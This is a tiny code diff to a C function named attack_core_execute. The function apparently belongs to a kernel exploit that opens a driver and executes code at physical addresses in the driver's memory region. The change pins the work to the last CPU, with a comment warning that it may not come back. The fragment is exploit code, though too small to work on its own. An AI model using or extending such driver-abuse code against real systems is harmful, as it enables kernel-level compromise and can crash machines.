@@ -155,6 +155,7 @@ void attack_core_execute(void)
 
 	driver_open();
 	require_kernel_execution();
+	pin_to_cpu(cpus_online() - 1);		/* it may not come back */
 	for (u64 at = 0; at < 0x3000; at += 0x1000) {
 		x0 = 0;
 		e = phys_exec(driver_info()->region_base + at, &x0);
